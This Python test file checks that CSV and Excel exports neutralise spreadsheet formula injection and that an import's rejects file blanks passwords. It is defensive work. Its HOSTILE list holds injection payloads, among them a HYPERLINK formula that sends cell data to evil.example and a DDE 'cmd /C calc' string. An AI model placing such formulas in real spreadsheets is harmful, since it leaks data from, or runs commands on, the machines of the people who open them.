"""Exported cells are data: CSV and Excel files, opened again, hold no formula, their text
round-trips, numbers stay numbers; the import's rejects file keeps no password."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import yaml

from dashboards import ui
from ingest import exports
from ingest.importer import import_file

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "华北电网",
    "-12.5",  # text that is just a number runs nothing: left as it is
    "a=b",
]
NEUTRALISED = [True, True, True, True, True, True, False, False, False]


def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "=name": HOSTILE,
            "amount": [-1200.5, 3, -7, 0, 1, 2, 3, 4, 5],
            "count": [-1, 2, 3, 4, 5, 6, 7, 8, 9],
        }
    )


def read_csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_cells_that_could_be_formulas_get_a_quote_and_numbers_stay(tmp_path: Path) -> None:
    for data in (exports.csv_bytes(frame()), ui.to_csv(frame())):
        rows = read_csv_cells(data)
        assert rows[0] == ["'=name", "amount", "count"]
        texts = [row[0] for row in rows[1:]]
        for text, original, quoted in zip(texts, HOSTILE, NEUTRALISED, strict=True):
            assert text == ("'" + original if quoted else original)
            assert not text.startswith(exports.FORMULA_STARTS) or text == "-12.5"
        assert [row[1] for row in rows[1:3]] == ["-1200.5", "3.0"]
        assert [row[2] for row in rows[1:3]] == ["-1", "2"]


def test_excel_cells_are_never_formulas_and_text_round_trips() -> None:
    for data in (exports.excel_bytes(frame(), "pipeline"), ui.to_excel(frame(), "pipeline")):
        sheet = openpyxl.load_workbook(io.BytesIO(data))["pipeline"]
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert sheet["A1"].value == "=name" and sheet["A1"].quotePrefix
        # XML reads a carriage return back as a line feed (XML 1.0 §2.11)
        expected = [text.replace("\r", "\n") for text in HOSTILE]
        assert [sheet.cell(row=i + 2, column=1).value for i in range(len(HOSTILE))] == expected
        flags = [sheet.cell(row=i + 2, column=1).quotePrefix for i in range(len(HOSTILE))]
        assert flags == NEUTRALISED
        amounts = [sheet.cell(row=i, column=2).value for i in (2, 4)]
        assert amounts == [-1200.5, -7] and sheet["B2"].data_type == "n"
        assert sheet["C2"].value == -1 and sheet["C2"].data_type == "n"


def test_rejects_file_blanks_passwords_and_neutralises_formulas(sqlite_engine, tmp_path) -> None:
    header = ["工号", "用户名", "姓名", "角色", "密码"]
    rows = [
        ["U01", "wangwei", '=HYPERLINK("http://evil")', "销售代表", "s3cret-password-1"],
        ["U02", "lina", "李娜", "实习生", "s3cret-password-2"],  # no such role: rejected
        ["U03", "zhao", "@赵", "实习生", "s3cret-password-3"],
    ]
    source = tmp_path / "users.csv"
    with source.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([header, *rows])
    mapping = tmp_path / "users.yaml"
    mapping.write_text(
        yaml.safe_dump(
            {
                "source": "oldcrm",
                "entity": "users",
                "id_column": "工号",
                "columns": {
                    "username": "用户名",
                    "display_name": "姓名",
                    "role": {"column": "角色", "values": {"销售代表": "rep"}},
                    "password": "密码",
                },
            },
            allow_unicode=True,
        ),
        encoding="utf-8",
    )
    rejects = tmp_path / "r.csv"
    report = import_file(source, mapping, engine=sqlite_engine, dry_run=True, rejects=rejects)
    assert [r.row for r in report.rejected] == [3, 4], report.text("en")
    raw = (tmp_path / "r.csv").read_bytes()
    assert b"s3cret" not in raw
    written = read_csv_cells(raw)
    assert written[0][:5] == header
    assert [row[:5] for row in written[1:]] == [
        ["U02", "lina", "李娜", "实习生", ""],
        ["U03", "zhao", "'@赵", "实习生", ""],
    ]
